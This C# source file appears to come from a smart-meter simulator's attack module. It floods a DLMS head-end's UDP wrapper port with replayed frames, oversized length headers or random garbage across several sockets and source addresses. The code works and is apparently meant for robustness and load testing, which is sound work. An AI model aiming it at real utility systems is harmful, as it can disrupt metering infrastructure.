using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using Meterline.Dlms.Wrapper;

namespace Meterline.Simulator.Attacks;

/// <summary>
/// Attacks a head-end's DLMS wrapper push port over UDP (<c>udp://host:port</c>): one socket per
/// <see cref="AttackOptions.Connections"/>, bound to the <see cref="AttackOptions.SourceAddresses"/> in turn, sending
/// one wrapper frame per datagram at <see cref="AttackOptions.Rate"/> in all — flood and replay frames (see
/// <see cref="AttackFrameSource"/>), headers announcing 65,535 bytes followed by 64 random bytes, or 256 random bytes.
/// UDP has no connections: idle connections and slow senders mean nothing here.
/// </summary>
public sealed class UdpWrapperAttack(TimeProvider? time = null) : IAttackTransport
{
    private readonly TimeProvider _time = time ?? TimeProvider.System;

    public string Scheme => "udp";

    public bool Supports(AttackKind kind) => kind is AttackKind.Flood or AttackKind.Replay or AttackKind.OversizeAnnouncement or AttackKind.Garbage;

    public async Task<AttackReport> RunAsync(AttackOptions options, CancellationToken cancellationToken = default)
    {
        ArgumentNullException.ThrowIfNull(options);
        if (!Supports(options.Kind))
        {
            throw new ArgumentException($"UDP has no {options.Kind} attack.", nameof(options));
        }

        if (options.Kind == AttackKind.Replay && options.Frames.Count == 0)
        {
            throw new ArgumentException("A replay needs captured frames (AttackOptions.Frames).", nameof(options));
        }

        var target = AttackSockets.Endpoint(options.Target);
        using var run = new AttackRun(options, _time, cancellationToken);
        using var frames = new AttackFrameSource(options, _time);
        var perSocket = options.Rate / options.Connections;
        return await run.LoopsAsync(options.Connections, index => SendLoopAsync(run, target, AttackSockets.SourceFor(options.SourceAddresses, index), frames, perSocket)).ConfigureAwait(false);
    }

    private static async Task SendLoopAsync(AttackRun run, IPEndPoint target, IPAddress? source, AttackFrameSource frames, double rate)
    {
        using var socket = new Socket(target.AddressFamily, SocketType.Dgram, ProtocolType.Udp);
        try
        {
            socket.Bind(new IPEndPoint(source ?? (target.AddressFamily == AddressFamily.InterNetworkV6 ? IPAddress.IPv6Any : IPAddress.Any), 0));
        }
        catch (SocketException)
        {
            run.Counters.OnError();
            return;
        }

        run.Counters.OnOpened();
        var pacer = new AttackPacer(rate, run.Time);
        while (true)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            for (var i = 0; i < due; i++)
            {
                try
                {
                    await socket.SendToAsync(Datagram(run.Options.Kind, frames), SocketFlags.None, target, run.Stopping).ConfigureAwait(false);
                    run.Counters.OnSent();
                }
                catch (SocketException)
                {
                    // An ICMP port unreachable from an earlier datagram, or a full send buffer.
                    run.Counters.OnError();
                }
            }
        }
    }

    private static byte[] Datagram(AttackKind kind, AttackFrameSource frames)
    {
        switch (kind)
        {
            case AttackKind.OversizeAnnouncement:
                var oversize = RandomNumberGenerator.GetBytes(WrapperFrame.HeaderLength + 64);
                WrapperFrame.WriteHeader(oversize, 1, 1, ushort.MaxValue);
                return oversize;
            case AttackKind.Garbage:
                var garbage = RandomNumberGenerator.GetBytes(256);
                garbage[0] = 0xFF;
                return garbage;
            default:
                return new WrapperFrame(1, 1, frames.Next()).ToArray();
        }
    }
}
